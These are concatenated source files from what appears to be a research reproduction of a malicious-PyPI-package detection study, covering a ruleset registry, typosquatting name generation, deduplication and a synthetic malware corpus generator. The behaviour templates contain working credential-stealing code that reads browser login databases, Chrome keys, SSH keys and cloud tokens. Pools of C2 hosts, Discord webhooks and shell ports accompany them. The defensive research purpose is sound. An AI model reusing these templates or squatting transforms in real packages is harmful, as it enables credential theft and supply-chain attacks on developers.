            raise ValueError("publish_stacked needs at least one shard")
        stack_id = f"stack-{uuid.uuid4().hex[:12]}"
        layers: list[RulesetVersion] = []
        previous = parent
        for depth in range(len(shards)):
            cumulative, provenance = merge_shard_rulesets(shards[: depth + 1])
            if not cumulative.rules:
                continue
            top = depth == len(shards) - 1
            shard_label = shards[depth][0]
            layer = self._publish_ruleset(
                cumulative,
                label=f"{label}+{shard_label}" if label else str(shard_label),
                activate=activate and top,
                kind=STACKED,
                parent=previous,
                stack_id=stack_id,
                provenance=provenance,
            )
            layers.append(layer)
            previous = layer.version
        if not layers:
            raise ValueError("no shard contributed any rules")
        return layers

    def stack_layers(self, stack_id: str) -> list[RulesetVersion]:
        """All versions of one stacked publish, bottom layer first."""
        with self._lock:
            layers = [
                v for v in self._versions.values() if v.stack_id == stack_id
            ]
        return sorted(layers, key=lambda v: v.version)

    # -- resolution ---------------------------------------------------------------
    def current(self) -> RulesetVersion:
        with self._lock:
            if self._current is None:
                raise LookupError("no ruleset has been published")
            return self._versions[self._current]

    def get(self, version: int) -> RulesetVersion:
        with self._lock:
            try:
                return self._versions[version]
            except KeyError:
                raise LookupError(f"unknown ruleset version {version}") from None

    def activate(self, version: int) -> RulesetVersion:
        """Atomically point the service at an already-published version
        (rollback or staged rollout).  Emits an ``activate`` event when the
        live version actually changes."""
        with self._lock:
            if version not in self._versions:
                raise LookupError(f"unknown ruleset version {version}")
            previous = self._current
            if self.store is not None and previous != version:
                self.store.journal.append("activate", {"version": version})
            self._current = version
            target = self._versions[version]
        if previous != version:
            self._notify(
                PublishEvent(
                    version=target, kind=ACTIVATE, activated=True,
                    previous_version=previous, namespace=self.namespace,
                )
            )
        return target

    def retire(
        self, version: int, reason: str = "", retired_by: str = ""
    ) -> Optional[RetirementRecord]:
        """Drop a non-current version (frees its index).

        ``reason`` / ``retired_by`` stamp a :class:`RetirementRecord`
        tombstone surfaced by :meth:`describe` and :meth:`retirements`, so
        automated retirement (the arena) leaves an audit trail.  Retiring
        an unknown version stays a silent no-op (returns ``None``).
        """
        with self._lock:
            if version == self._current:
                raise ValueError(f"cannot retire the active version v{version}")
            if version not in self._versions:
                return None
            if self.store is not None:
                self.store.journal.append(
                    "retire",
                    {
                        "version": version,
                        "reason": reason,
                        "retired_by": retired_by,
                        "label": self._versions[version].label,
                        "rule_count": self._versions[version].rule_count,
                    },
                )
            dropped = self._versions.pop(version, None)
            if dropped is None:
                return None
            record = RetirementRecord(
                version=version,
                label=dropped.label,
                reason=reason,
                retired_by=retired_by,
                rule_count=dropped.rule_count,
            )
            self._retired[version] = record
            while len(self._retired) > _MAX_RETIREMENT_RECORDS:
                del self._retired[next(iter(self._retired))]
            return record

    def retirements(self) -> list[RetirementRecord]:
        """Tombstones of every retired version, oldest version first."""
        with self._lock:
            return [self._retired[v] for v in sorted(self._retired)]

    # -- introspection ------------------------------------------------------------
    def versions(self) -> list[int]:
        with self._lock:
            return sorted(self._versions)

    def current_version(self) -> Optional[int]:
        with self._lock:
            return self._current

    def __len__(self) -> int:
        with self._lock:
            return len(self._versions)

    def describe(self) -> str:
        with self._lock:
            current = self._current
            lines = []
            for version in sorted(self._versions):
                marker = "*" if version == current else " "
                lines.append(f"{marker} {self._versions[version].describe()}")
            for version in sorted(self._retired):
                lines.append(f"x {self._retired[version].describe()}")
        return "\n".join(lines) if lines else "(empty registry)"

    # -- serialization ------------------------------------------------------------
    def to_bytes(self) -> bytes:
        """Snapshot the whole registry — every live version with its compiled
        rules and packed indexes, the current pointer, tombstones — as one
        blob a fresh process restores with :meth:`from_bytes`.

        Runtime-only state is deliberately excluded: subscribers (callbacks
        into the snapshotting process) and the lock are rebuilt empty/fresh
        on restore.  This is the attach-without-recompiling groundwork the
        durable-registry item needs; shard workers use the lighter
        per-version :meth:`RulesetVersion.to_bytes`.
        """
        with self._lock:
            state = {
                "min_atom_length": self.min_atom_length,
                "automaton_threshold": self.automaton_threshold,
                "namespace": self.namespace,
                "versions": dict(self._versions),
                "current": self._current,
                "next_version": self._next_version,
                "retired": dict(self._retired),
            }
        return _REGISTRY_BLOB_MAGIC + pickle.dumps(
            state, protocol=pickle.HIGHEST_PROTOCOL
        )

    @classmethod
    def from_bytes(cls, blob: bytes) -> "RulesetRegistry":
        if not blob.startswith(_REGISTRY_BLOB_MAGIC):
            raise ValueError("not a RulesetRegistry blob")
        state = pickle.loads(blob[len(_REGISTRY_BLOB_MAGIC):])
        registry = cls(
            min_atom_length=state["min_atom_length"],
            automaton_threshold=state["automaton_threshold"],
            namespace=state["namespace"],
        )
        registry._versions = state["versions"]
        registry._current = state["current"]
        registry._next_version = state["next_version"]
        registry._retired = state["retired"]
        return registry

    # -- durable store ------------------------------------------------------------
    def _journal_publish(self, version: RulesetVersion, kind: str,
                         activated: bool) -> None:
        """Blob the version and journal the publish (no-op without a store)."""
        if self.store is None:
            return
        digest = self.store.blobs.put(version.to_bytes())
        self.store.journal.append(
            "publish",
            {
                "version": version.version,
                "blob": digest,
                "label": version.label,
                "kind": kind,
                "activated": activated,
                "cache_key": version.cache_key,
                "parent": version.parent,
                "stack_id": version.stack_id,
                "rule_count": version.rule_count,
            },
        )

    def snapshot(self, store: Optional["RuleStore"] = None) -> "SnapshotManifest":
        """Fold the registry's full state into a snapshot manifest.

        Writes the whole-registry blob plus one standalone blob per live
        version, anchored to the journal's current epoch.  Recovery after
        this point loads the manifest and replays only the tail; compaction
        may drop every journal segment at or below its epoch.
        """
        from repro.store.snapshots import SnapshotManifest

        store = store or self.store
        if store is None:
            raise ValueError("snapshot needs a store")
        registry_blob = store.blobs.put(self.to_bytes())
        with self._lock:
            versions = dict(self._versions)
            current = self._current
            namespace = self.namespace
        version_blobs = {
            number: store.blobs.put(version.to_bytes())
            for number, version in sorted(versions.items())
        }
        manifest = SnapshotManifest(
            epoch=store.journal.last_epoch,
            registry_blob=registry_blob,
            version_blobs=version_blobs,
            current_version=current,
            namespace=namespace,
        )
        return store.write_manifest(manifest)

    @classmethod
    def from_store(
        cls,
        store: "RuleStore",
        min_atom_length: int = DEFAULT_MIN_ATOM_LENGTH,
        automaton_threshold: Optional[int] = None,
        namespace: str = "",
    ) -> "RulesetRegistry":
        """Recover a registry from its durable store: latest snapshot blob +
        journal tail replay.

        The snapshot restores every compiled version (rules, packed
        automaton tables, provenance) straight from its blob — **no**
        yarax/semgrepx compilation happens on this path.  Records after the
        snapshot epoch are folded in one by one; publish records attach
        their version blobs the same compile-free way.  An empty store
        yields an empty registry wired to journal future writes (the
        keyword arguments only matter on that fresh path — a snapshot
        carries its own configuration).
        """
        manifest = store.latest_manifest()
        after = 0
        if manifest is not None:
            registry = cls.from_bytes(
                store.blobs.get_verified(manifest.registry_blob)
            )
            after = manifest.epoch
        else:
            registry = cls(
                min_atom_length=min_atom_length,
                automaton_threshold=automaton_threshold,
                namespace=namespace,
            )
        registry._replay_store_tail(store, after)
        registry.store = store
        return registry

    def _replay_store_tail(self, store: "RuleStore", after: int) -> None:
        """Fold journal records after ``after`` into the in-memory state."""
        for record in store.journal.replay(after=after):
            data = record.data
            if record.type == "publish":
                digest = str(data.get("blob", ""))
                try:
                    version = RulesetVersion.from_bytes(
                        store.blobs.get_verified(digest)
                    )
                except (LookupError, ValueError) as exc:
                    self.recovery_notes.append(
                        f"publish@{record.epoch} unrecoverable: {exc}"
                    )
                    continue
                self._versions[version.version] = version
                self._next_version = max(self._next_version, version.version + 1)
                if data.get("activated"):
                    self._current = version.version
            elif record.type == "activate":
                number = int(data.get("version", 0))
                if number in self._versions:
                    self._current = number
                else:
                    self.recovery_notes.append(
                        f"activate@{record.epoch} targets unknown v{number}"
                    )
            elif record.type == "retire":
                number = int(data.get("version", 0))
                dropped = self._versions.pop(number, None)
                if dropped is not None or number not in self._retired:
                    self._retired[number] = RetirementRecord(
                        version=number,
                        label=str(data.get("label", "")),
                        reason=str(data.get("reason", "")),
                        retired_by=str(data.get("retired_by", "")),
                        retired_at=record.ts,
                        rule_count=int(data.get("rule_count", 0)),
                    )
                    while len(self._retired) > _MAX_RETIREMENT_RECORDS:
                        del self._retired[next(iter(self._retired))]
