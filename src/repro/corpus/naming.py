"""Package naming: popular-package list and typosquatting transforms.

The paper's metadata audit (Table II) flags *typosquatting* -- a malicious
package taking a name confusingly similar to a popular one ("reqests" for
"requests").  This module provides the list of popular names the benign
generator draws from and the transformations the malware generator applies to
create squatted names.
"""

from __future__ import annotations

from repro.utils.seeding import DeterministicRandom

#: Popular PyPI package names (modelled on the top-downloads list the paper
#: cites for its 500 legitimate packages).
POPULAR_PACKAGES: tuple[str, ...] = (
    "requests", "urllib3", "numpy", "pandas", "flask", "django", "click",
    "pytest", "setuptools", "boto3", "botocore", "certifi", "charset-normalizer",
    "idna", "python-dateutil", "six", "pyyaml", "cryptography", "colorama",
    "awscli", "rsa", "pip", "wheel", "pyasn1", "jinja2", "markupsafe",
    "attrs", "packaging", "importlib-metadata", "zipp", "typing-extensions",
    "pytz", "jmespath", "s3transfer", "docutils", "pyparsing", "protobuf",
    "google-api-core", "cachetools", "chardet", "websocket-client", "pillow",
    "scipy", "matplotlib", "sqlalchemy", "tqdm", "greenlet", "werkzeug",
    "pyjwt", "decorator", "requests-oauthlib", "oauthlib", "psutil", "tabulate",
    "scikit-learn", "grpcio", "pygments", "httpx", "aiohttp", "fastapi",
    "pydantic", "uvicorn", "redis", "celery", "kombu", "lxml", "beautifulsoup4",
    "soupsieve", "openpyxl", "et-xmlfile", "paramiko", "bcrypt", "pynacl",
    "discord-py", "python-telegram-bot", "selenium", "pyinstaller", "rich",
    "tenacity", "more-itertools", "filelock", "virtualenv", "tox", "coverage",
    "black", "isort", "flake8", "mypy", "toml", "tomli", "platformdirs",
    "distlib", "identify", "pre-commit", "nodeenv", "cfgv", "pyopenssl",
    "websockets", "multidict", "yarl", "frozenlist", "aiosignal", "async-timeout",
)

#: Short real-looking author names used by the benign generator.
BENIGN_AUTHORS: tuple[tuple[str, str], ...] = (
    ("Ada Lovelace", "ada@computing.example.org"),
    ("Grace Hopper", "grace@navy.example.mil"),
    ("Dennis Ritchie", "dmr@bell-labs.example.com"),
    ("Barbara Liskov", "liskov@mit.example.edu"),
    ("Guido van Rossum", "guido@python.example.org"),
    ("Katherine Johnson", "kjohnson@nasa.example.gov"),
    ("Donald Knuth", "knuth@stanford.example.edu"),
    ("Radia Perlman", "radia@network.example.com"),
    ("Ken Thompson", "ken@bell-labs.example.com"),
    ("Frances Allen", "fallen@ibm.example.com"),
)

_KEYBOARD_NEIGHBOURS = {
    "a": "qs", "b": "vn", "c": "xv", "d": "sf", "e": "wr", "f": "dg",
    "g": "fh", "h": "gj", "i": "uo", "j": "hk", "k": "jl", "l": "k",
    "m": "n", "n": "bm", "o": "ip", "p": "o", "q": "wa", "r": "et",
    "s": "ad", "t": "ry", "u": "yi", "v": "cb", "w": "qe", "x": "zc",
    "y": "tu", "z": "x",
}


def _swap_adjacent(name: str, rng: DeterministicRandom) -> str:
    letters = [i for i in range(len(name) - 1) if name[i].isalpha() and name[i + 1].isalpha()]
    if not letters:
        return name + "s"
    i = rng.choice(letters)
    chars = list(name)
    chars[i], chars[i + 1] = chars[i + 1], chars[i]
    return "".join(chars)


def _drop_character(name: str, rng: DeterministicRandom) -> str:
    candidates = [i for i in range(len(name)) if name[i].isalpha()]
    if len(name) <= 3 or not candidates:
        return name + name[-1]
    i = rng.choice(candidates)
    return name[:i] + name[i + 1 :]


def _double_character(name: str, rng: DeterministicRandom) -> str:
    candidates = [i for i in range(len(name)) if name[i].isalpha()]
    if not candidates:
        return name + "1"
    i = rng.choice(candidates)
    return name[: i + 1] + name[i] + name[i + 1 :]


def _neighbour_typo(name: str, rng: DeterministicRandom) -> str:
    candidates = [i for i in range(len(name)) if name[i].lower() in _KEYBOARD_NEIGHBOURS]
    if not candidates:
        return _swap_adjacent(name, rng)
    i = rng.choice(candidates)
    replacement = rng.choice(_KEYBOARD_NEIGHBOURS[name[i].lower()])
    return name[:i] + replacement + name[i + 1 :]


def _affix(name: str, rng: DeterministicRandom) -> str:
    affixes = ("-py", "-python", "3", "-lib", "-utils", "-dev", "-core", "2")
    affix = rng.choice(affixes)
    return name + affix


def _hyphen_confusion(name: str, rng: DeterministicRandom) -> str:
    if "-" in name:
        return name.replace("-", "_", 1)
    if "_" in name:
        return name.replace("_", "-", 1)
    if len(name) > 4:
        split = rng.randint(2, len(name) - 2)
        return name[:split] + "-" + name[split:]
    return _affix(name, rng)


_TRANSFORMS = (
    _swap_adjacent,
    _drop_character,
    _double_character,
    _neighbour_typo,
    _affix,
    _hyphen_confusion,
)


def typosquat(target: str, rng: DeterministicRandom) -> str:
    """Return a typosquatted variant of a popular package name."""
    transform = rng.choice(_TRANSFORMS)
    squatted = transform(target, rng)
    if squatted == target:
        squatted = target + "-official"
    return squatted


def squat_popular(rng: DeterministicRandom) -> tuple[str, str]:
    """Pick a popular package and return ``(squatted_name, target_name)``."""
    target = rng.choice(POPULAR_PACKAGES)
    return typosquat(target, rng), target


def is_similar_to_popular(name: str) -> bool:
    """Cheap typosquatting heuristic used by metadata auditing.

    Returns True when ``name`` is within edit-distance 1-2 of (or embeds) a
    popular package name while not being that exact name.
    """
    lowered = name.lower()
    for popular in POPULAR_PACKAGES:
        if lowered == popular:
            return False
    for popular in POPULAR_PACKAGES:
        if popular in lowered and lowered != popular and len(lowered) <= len(popular) + 9:
            return True
        if abs(len(lowered) - len(popular)) <= 2 and _edit_distance_at_most(lowered, popular, 2):
            return True
    return False


def _edit_distance_at_most(a: str, b: str, limit: int) -> bool:
    """Banded Levenshtein check: is edit distance <= limit?"""
    if abs(len(a) - len(b)) > limit:
        return False
    previous = list(range(len(b) + 1))
    for i, ca in enumerate(a, start=1):
        current = [i] + [0] * len(b)
        row_min = i
        for j, cb in enumerate(b, start=1):
            cost = 0 if ca == cb else 1
            current[j] = min(previous[j] + 1, current[j - 1] + 1, previous[j - 1] + cost)
            row_min = min(row_min, current[j])
        if row_min > limit:
            return False
        previous = current
    return previous[len(b)] <= limit


def random_project_name(rng: DeterministicRandom) -> str:
    """Generate a fresh plausible (non-squatting) project name."""
    prefixes = ("py", "fast", "easy", "micro", "auto", "smart", "data", "net", "async", "cloud")
    stems = ("parse", "cache", "queue", "config", "graph", "token", "stream", "vector",
             "metric", "schema", "worker", "client", "logger", "router", "store")
    suffixes = ("", "r", "x", "kit", "lib", "tools", "core", "io")
    return rng.choice(prefixes) + rng.choice(stems) + rng.choice(suffixes)
