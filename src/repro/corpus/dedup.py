"""Package deduplication (paper Table VI).

The GuardDog feed contains many re-uploads of the same malware under
different names or versions; the paper collapses 3,200 packages to 1,633
unique ones by signature.  We reproduce that with a content signature
computed over the package's *source files only* -- registry-facing files
(``setup.py``, ``PKG-INFO``, ``README``) carry the new identity and would
defeat a naive whole-package hash, exactly as in the real feed.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Sequence

from repro.corpus.package import Package
from repro.utils.hashing import content_signature

_IDENTITY_FILES = ("setup.py", "PKG-INFO", "README", "README.md", "README.rst")


def package_signature(package: Package) -> str:
    """Return the dedup signature of a package (source payload only)."""
    payload = [f.content for f in package.files if f.path not in _IDENTITY_FILES]
    if not payload:
        payload = [f.content for f in package.files]
    return content_signature(payload)


@dataclass
class DedupResult:
    """Outcome of deduplicating a corpus."""

    unique: list[Package] = field(default_factory=list)
    duplicates: list[Package] = field(default_factory=list)
    groups: dict[str, list[Package]] = field(default_factory=dict)

    @property
    def total(self) -> int:
        return len(self.unique) + len(self.duplicates)

    @property
    def dedup_ratio(self) -> float:
        """Fraction of packages removed as duplicates."""
        if self.total == 0:
            return 0.0
        return len(self.duplicates) / self.total


def deduplicate(packages: Iterable[Package]) -> DedupResult:
    """Collapse packages that share the same source payload.

    The first occurrence (in input order) of each signature is kept as the
    canonical representative; later occurrences are reported as duplicates.
    """
    result = DedupResult()
    for package in packages:
        signature = package_signature(package)
        group = result.groups.setdefault(signature, [])
        if group:
            result.duplicates.append(package)
        else:
            result.unique.append(package)
        group.append(package)
    return result


def duplicate_clusters(packages: Sequence[Package]) -> list[list[Package]]:
    """Return only the signature groups that contain more than one package."""
    result = deduplicate(packages)
    return [group for group in result.groups.values() if len(group) > 1]
