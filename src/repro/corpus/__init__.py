"""Synthetic OSS package corpus.

The paper evaluates RuleLLM on 3,200 malicious PyPI packages collected from
GuardDog (1,633 after deduplication) and 500 popular legitimate packages.
Neither corpus can be shipped offline, so this subpackage provides a faithful
*synthetic substrate*: a generator of malicious packages built from behaviour
templates covering the paper's 11 rule categories and 38 subcategories, and a
generator of benign packages shaped like real popular libraries.

The generators reproduce the statistical properties the evaluation depends
on -- duplication ratio, lines-of-code asymmetry between malware and benign
packages, family structure for the variant-detection experiment and the
behaviour-category mix behind Table XII -- while remaining fully
deterministic for a given seed.
"""

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.corpus.dataset import Dataset, DatasetConfig, DatasetStatistics, build_dataset
from repro.corpus.dedup import deduplicate
from repro.corpus.malware_generator import MalwareGenerator, MalwareGeneratorConfig
from repro.corpus.benign_generator import BenignGenerator, BenignGeneratorConfig

__all__ = [
    "Package",
    "PackageFile",
    "PackageMetadata",
    "Dataset",
    "DatasetConfig",
    "DatasetStatistics",
    "build_dataset",
    "deduplicate",
    "MalwareGenerator",
    "MalwareGeneratorConfig",
    "BenignGenerator",
    "BenignGeneratorConfig",
]
