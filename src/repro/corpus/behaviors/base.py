"""Behaviour-template machinery for the synthetic malware corpus.

A *behaviour* is one concrete malicious capability a package can carry --
"beacon to a C2 server over a raw socket", "steal ``~/.aws/credentials``",
"spawn a hidden reverse shell from ``setup.py``" -- tagged with the paper's
taxonomy label (category + subcategory, Table XII).

Behaviours are defined declaratively as :class:`Behavior` instances holding a
handful of code *template variants*.  Rendering a behaviour picks one variant
and fills its placeholders (function names, hostnames, ports, file paths...)
from seeded pools, so two variants of the same malware family share structure
and tell-tale API calls while differing in identifiers and constants --
exactly the property the paper's clustering + multi-sample prompting relies
on.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Optional, Sequence

from repro.categories import TaxonomyLabel, category_of
from repro.utils.seeding import DeterministicRandom
from repro.utils.text import dedent_code

# -- value pools used to fill template placeholders --------------------------

C2_HOSTS = (
    "updates.pythonhosted.cc", "cdn.pypi-mirror.top", "api.telemetry-sync.xyz",
    "files.pkg-install.ru", "static.devops-metrics.pw", "backend.wheel-cache.io",
    "service.pip-analytics.cn", "node1.package-stats.su",
)
RAW_IPS = (
    "45.137.21.9", "185.62.190.11", "193.32.162.74", "91.242.217.33",
    "104.168.45.9", "141.98.6.171",
)
WEBHOOK_URLS = (
    "https://discord.com/api/webhooks/1093372/a8Xk2",
    "https://discord.com/api/webhooks/8827151/QzP0w",
    "https://discordapp.com/api/webhooks/5520013/mB4tS",
)
TELEGRAM_TOKENS = (
    "5912338721:AAH8x1", "6023917455:AAGq2z", "5788102931:AAEw9k",
)
PASTE_URLS = (
    "https://pastebin.com/raw/Xq2LmWp1", "https://paste.ee/r/K93jHq",
    "https://rentry.co/mlwr-stage2/raw",
)
SENSITIVE_PATHS = (
    "~/.aws/credentials", "~/.ssh/id_rsa", "~/.netrc", "~/.config/gcloud/credentials.db",
    "~/.docker/config.json", "~/.npmrc", "~/.pypirc", "~/.gitconfig",
)
BROWSER_PATHS = (
    "AppData/Local/Google/Chrome/User Data/Default/Login Data",
    "AppData/Roaming/Mozilla/Firefox/Profiles",
    ".config/google-chrome/Default/Cookies",
    "AppData/Local/BraveSoftware/Brave-Browser/User Data/Default/Login Data",
)
PORTS = (4444, 1337, 8081, 9001, 6666, 31337, 8443)
FUNC_STEMS = (
    "sync", "update", "init", "check", "load", "refresh", "collect", "process",
    "bootstrap", "configure", "register", "verify", "prepare", "handle",
)
FUNC_SUFFIXES = ("_data", "_cfg", "_env", "_info", "_cache", "_task", "_meta", "", "_payload")
VAR_NAMES = ("result", "payload", "buf", "data", "blob", "resp", "out", "content", "tmp")
ENV_MARKERS = ("PROD", "CI", "RELEASE", "BUILD_ID", "DEPLOY_ENV")


@dataclass
class RenderContext:
    """Concrete values chosen for one rendering of a behaviour."""

    func: str
    var: str
    host: str
    ip: str
    port: int
    url: str
    webhook: str
    telegram_token: str
    paste_url: str
    sensitive_path: str
    browser_path: str
    marker: str

    def as_mapping(self) -> dict[str, str]:
        return {
            "func": self.func,
            "var": self.var,
            "host": self.host,
            "ip": self.ip,
            "port": str(self.port),
            "url": self.url,
            "webhook": self.webhook,
            "telegram_token": self.telegram_token,
            "paste_url": self.paste_url,
            "sensitive_path": self.sensitive_path,
            "browser_path": self.browser_path,
            "marker": self.marker,
        }


def make_context(rng: DeterministicRandom) -> RenderContext:
    """Draw a fresh set of placeholder values."""
    host = rng.choice(C2_HOSTS)
    return RenderContext(
        func=rng.choice(FUNC_STEMS) + rng.choice(FUNC_SUFFIXES),
        var=rng.choice(VAR_NAMES),
        host=host,
        ip=rng.choice(RAW_IPS),
        port=rng.choice(PORTS),
        url=f"https://{host}/api/v{rng.randint(1, 3)}/collect",
        webhook=rng.choice(WEBHOOK_URLS),
        telegram_token=rng.choice(TELEGRAM_TOKENS),
        paste_url=rng.choice(PASTE_URLS),
        sensitive_path=rng.choice(SENSITIVE_PATHS),
        browser_path=rng.choice(BROWSER_PATHS),
        marker=rng.choice(ENV_MARKERS),
    )


@dataclass
class RenderedBehavior:
    """The concrete artefacts one behaviour contributes to a package."""

    key: str
    label: TaxonomyLabel
    imports: list[str] = field(default_factory=list)
    functions: list[str] = field(default_factory=list)
    call: Optional[str] = None
    setup_snippet: Optional[str] = None
    metadata_patch: dict[str, object] = field(default_factory=dict)

    @property
    def code(self) -> str:
        return "\n\n".join(self.functions)


#: A variant is (imports, code-template, call-template-or-None,
#:               setup-template-or-None).
Variant = tuple[Sequence[str], str, Optional[str], Optional[str]]


@dataclass
class Behavior:
    """One malicious capability with several code-template variants."""

    key: str
    subcategory: str
    description: str
    variants: Sequence[Variant] = ()
    metadata_patcher: Optional[Callable[[DeterministicRandom], dict[str, object]]] = None
    weight: float = 1.0

    def __post_init__(self) -> None:
        self.category = category_of(self.subcategory)
        self.label = TaxonomyLabel(self.category, self.subcategory)
        if not self.variants and self.metadata_patcher is None:
            raise ValueError(f"behavior {self.key!r} defines neither code variants nor metadata")

    @property
    def variant_count(self) -> int:
        return len(self.variants)

    def render(self, rng: DeterministicRandom, variant_index: int | None = None) -> RenderedBehavior:
        """Render one concrete instance of this behaviour.

        ``variant_index`` pins the code template; malware families fix it so
        every member of the family shares the same code shape (only
        identifiers and constants differ between members, as with real
        malware re-uploads).
        """
        rendered = RenderedBehavior(key=self.key, label=self.label)
        if self.variants:
            if variant_index is None:
                variant_index = rng.randint(0, len(self.variants) - 1)
            variant = self.variants[variant_index % len(self.variants)]
            imports, code_template, call_template, setup_template = variant
            context = make_context(rng).as_mapping()
            rendered.imports = [imp.format(**context) for imp in imports]
            rendered.functions = [dedent_code(code_template).format(**context).rstrip()]
            if call_template:
                rendered.call = call_template.format(**context)
            if setup_template:
                rendered.setup_snippet = dedent_code(setup_template).format(**context).rstrip()
        if self.metadata_patcher is not None:
            rendered.metadata_patch = self.metadata_patcher(rng)
        return rendered


class BehaviorRegistry:
    """Registry of every behaviour available to the malware generator."""

    def __init__(self) -> None:
        self._behaviors: dict[str, Behavior] = {}

    def register(self, behavior: Behavior) -> Behavior:
        if behavior.key in self._behaviors:
            raise ValueError(f"duplicate behavior key: {behavior.key}")
        self._behaviors[behavior.key] = behavior
        return behavior

    def register_all(self, behaviors: Sequence[Behavior]) -> None:
        for behavior in behaviors:
            self.register(behavior)

    def get(self, key: str) -> Behavior:
        return self._behaviors[key]

    def __contains__(self, key: str) -> bool:
        return key in self._behaviors

    def __len__(self) -> int:
        return len(self._behaviors)

    def all(self) -> list[Behavior]:
        return list(self._behaviors.values())

    def by_category(self, category: str) -> list[Behavior]:
        return [b for b in self._behaviors.values() if b.category == category]

    def by_subcategory(self, subcategory: str) -> list[Behavior]:
        return [b for b in self._behaviors.values() if b.subcategory == subcategory]

    def keys(self) -> list[str]:
        return list(self._behaviors.keys())
