"""Metadata-related behaviours (paper Table XII category 0).

Subcategories: Package Metadata Manipulation, Version Number Deception,
Fake Dependency Metadata, Author Information Spoofing.

Unlike the code behaviours these act on the package's *metadata* (paper
Section III-A / Table II): empty descriptions, 0.0.0 release versions,
suspicious dependencies, throwaway author identities.  The malware generator
applies the returned patches to :class:`repro.corpus.package.PackageMetadata`.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior
from repro.utils.seeding import DeterministicRandom

_THROWAWAY_AUTHORS = (
    ("dev", "test12345@gmail.com"),
    ("admin", "xx0@protonmail.com"),
    ("user2193", "qwerty9@mail.ru"),
    ("", ""),
    ("python dev", "pydev.official.team@gmail.com"),
    ("support", "support@pypi-mirror.top"),
)

_SUSPICIOUS_DEPENDENCIES = (
    "pyobfuscate", "fernet", "httpx0", "requests2", "cryptographyx",
    "win32-setctime", "pynput", "pyautogui", "browser-cookie3", "discord-webhook",
    "pycryptodomee", "socket5",
)

_COPIED_DESCRIPTIONS = (
    "Python HTTP for Humans.",
    "Powerful data structures for data analysis, time series, and statistics",
    "A simple, yet elegant, HTTP library.",
    "The fundamental package for array computing with Python.",
    "Composable command line interface toolkit",
)


def _patch_empty_metadata(rng: DeterministicRandom) -> dict[str, object]:
    """Strip the descriptive fields a legitimate maintainer would fill in."""
    patch: dict[str, object] = {"description": "", "summary": ""}
    if rng.coin(0.6):
        patch["home_page"] = ""
    if rng.coin(0.5):
        patch["license"] = ""
    if rng.coin(0.4):
        patch["classifiers"] = []
    return patch


def _patch_zero_version(rng: DeterministicRandom) -> dict[str, object]:
    """Give the package a throwaway 0.0 / 0.0.0 style version."""
    version = rng.choice(("0.0.0", "0.0", "0.0.1", "0.1", "1.0.0.0"))
    return {"version": version}


def _patch_fake_dependencies(rng: DeterministicRandom) -> dict[str, object]:
    """Declare obscure / malicious-looking dependencies."""
    count = rng.randint(2, 5)
    deps = rng.sample(_SUSPICIOUS_DEPENDENCIES, count)
    return {"dependencies": deps}


def _patch_spoofed_author(rng: DeterministicRandom) -> dict[str, object]:
    """Replace author identity with a throwaway or copied one."""
    author, email = rng.choice(_THROWAWAY_AUTHORS)
    patch: dict[str, object] = {"author": author, "author_email": email}
    if rng.coin(0.5):
        patch["description"] = rng.choice(_COPIED_DESCRIPTIONS)
    return patch


BEHAVIORS: list[Behavior] = [
    Behavior(
        key="metadata_empty_fields",
        subcategory="Package Metadata Manipulation",
        description="Ship the package with empty or placeholder registry metadata.",
        metadata_patcher=_patch_empty_metadata,
    ),
    Behavior(
        key="metadata_zero_version",
        subcategory="Version Number Deception",
        description="Publish under a 0.0 / 0.0.0 style throwaway version.",
        metadata_patcher=_patch_zero_version,
    ),
    Behavior(
        key="metadata_fake_dependencies",
        subcategory="Fake Dependency Metadata",
        description="Declare obscure or malicious dependency libraries.",
        metadata_patcher=_patch_fake_dependencies,
    ),
    Behavior(
        key="metadata_spoofed_author",
        subcategory="Author Information Spoofing",
        description="Use throwaway author identities or copy a popular package's description.",
        metadata_patcher=_patch_spoofed_author,
    ),
]
