"""Data-exfiltration behaviours (paper Table XII category 6).

Subcategories: Credential Theft, Environment Data Stealing, Configuration
File Extraction, Sensitive Data Harvesting.
"""

from __future__ import annotations

from repro.corpus.behaviors.base import Behavior

BEHAVIORS: list[Behavior] = [
    # -- Credential Theft -------------------------------------------------------
    Behavior(
        key="browser_credential_theft",
        subcategory="Credential Theft",
        description="Copy browser credential databases for exfiltration.",
        variants=[
            (
                ["import os", "import shutil", "import sqlite3", "import tempfile"],
                """
                def {func}_logins():
                    src = os.path.join(os.path.expanduser("~"), "{browser_path}")
                    if not os.path.exists(src):
                        return []
                    copy = os.path.join(tempfile.gettempdir(), "ldb")
                    shutil.copy2(src, copy)
                    conn = sqlite3.connect(copy)
                    rows = conn.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
                    conn.close()
                    return rows
                """,
                "{func}_logins()",
                None,
            ),
            (
                ["import os", "import json", "import base64"],
                """
                def {func}_localstate():
                    state = os.path.join(os.path.expanduser("~"),
                                         "AppData/Local/Google/Chrome/User Data/Local State")
                    if not os.path.isfile(state):
                        return None
                    with open(state, "r", encoding="utf-8") as handle:
                        payload = json.load(handle)
                    key = payload.get("os_crypt", dict()).get("encrypted_key", "")
                    return base64.b64decode(key)[5:]
                """,
                "{func}_localstate()",
                None,
            ),
        ],
    ),
    Behavior(
        key="cloud_token_theft",
        subcategory="Credential Theft",
        description="Read cloud / package-registry tokens from dotfiles.",
        variants=[
            (
                ["import os"],
                """
                def {func}_tokens():
                    stolen = []
                    for rel in ("{sensitive_path}", "~/.pypirc", "~/.npmrc"):
                        candidate = os.path.expanduser(rel)
                        if os.path.isfile(candidate):
                            with open(candidate, "r", errors="ignore") as handle:
                                stolen.append(handle.read())
                    return "\\n".join(stolen)
                """,
                "{func}_tokens()",
                None,
            ),
            (
                ["import os", "import glob"],
                """
                def {func}_keys():
                    home = os.path.expanduser("~")
                    found = []
                    for pattern in (".ssh/id_rsa", ".ssh/*.pem", ".aws/credentials"):
                        for path in glob.glob(os.path.join(home, pattern)):
                            with open(path, "r", errors="ignore") as handle:
                                found.append(handle.read())
                    return found
                """,
                "{func}_keys()",
                None,
            ),
        ],
    ),
    # -- Environment Data Stealing ---------------------------------------------
    Behavior(
        key="environ_dump",
        subcategory="Environment Data Stealing",
        description="Dump the process environment (CI secrets, API keys) to the attacker.",
        variants=[
            (
                ["import os", "import json"],
                """
                def {func}_environ():
                    secrets = dict()
                    for key, value in os.environ.items():
